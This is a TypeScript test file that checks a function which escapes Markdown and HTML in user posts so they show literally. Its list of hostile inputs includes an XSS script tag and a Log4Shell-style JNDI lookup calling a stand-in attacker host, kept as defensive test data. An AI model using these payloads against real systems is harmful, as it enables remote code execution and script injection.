import { describe, expect, it } from 'vitest';
import { plainText } from '../../src/views/plainText.ts';

/** CommonMark: a backslash before ASCII punctuation shows that character literally. */
function unescape(text: string): string {
  return text.replace(/\\([!-/:-@[-`{-~])/g, '$1');
}

/** Markdown that would still take effect: an unescaped marker. */
function liveMarkdown(text: string): string[] {
  const found: string[] = [];
  const inline = /(^|[^\\])((?:\\\\)*)([`*_[\]<>~|&])/gm;
  for (const m of text.matchAll(inline)) found.push(m[3] ?? '');
  for (const line of text.split('\n')) {
    if (/^\s*[#+\-=]/.test(line)) found.push(`line start: ${line.slice(0, 10)}`);
    if (/^\s*\d+[.)]/.test(line)) found.push(`ordered list: ${line.slice(0, 10)}`);
  }
  return found;
}

const HOSTILE = [
  '[click](http://evil.example)',
  '**bold** and __bold__ and *it* _it_',
  '# heading',
  '## also a heading',
  '- list item',
  '+ list item',
  '* list item',
  '1. numbered',
  '12) numbered',
  '> quoted',
  '<at>Dr Patel</at>',
  '`code` and ```fenced```',
  '<script>alert(1)</script>',
  '<a href="http://evil.example">x</a>',
  '&lt;b&gt; &amp;',
  '![img](http://evil.example/x.png)',
  '<http://evil.example>',
  '~~strike~~ | table | cell |',
  'Heading\n===',
  'Heading\n---',
  '   - indented list',
  'back\\slash \\[not a link\\](x)',
  '${jndi:ldap://evil.example/a} ${$root.practiceName}',
  '{"type":"Action.OpenUrl","url":"http://evil.example"}',
];

describe('plainText', () => {
  it.each(HOSTILE)('shows %j literally', (input) => {
    const out = plainText(input);
    expect(unescape(out)).toBe(input.replace(/\r\n?/g, '\n'));
    expect(liveMarkdown(out)).toEqual([]);
  });

  it('leaves ordinary sentences alone', () => {
    const sentence = "Dr O'Brien's surgery on Tuesday 3 Nov was awful. Avoid them! (Really.) 5/10, 50% rubbish, £20 wasted?";
    expect(plainText(sentence)).toBe(sentence);
  });

  it('escapes each line of a multi-line post', () => {
    expect(plainText('fine\n# heading\r\n- item\r1. one')).toBe('fine\n\\# heading\n\\- item\n1\\. one');
  });

  it('turns missing values into empty text', () => {
    expect(plainText(undefined)).toBe('');
    expect(plainText(null)).toBe('');
    expect(plainText(42)).toBe('42');
  });

  it('would fail on text that is not escaped (the check can fail)', () => {
    expect(liveMarkdown('[click](http://evil.example)')).not.toEqual([]);
    expect(liveMarkdown('# heading')).not.toEqual([]);
    expect(liveMarkdown('\\\\*still bold*')).not.toEqual([]);
  });
});
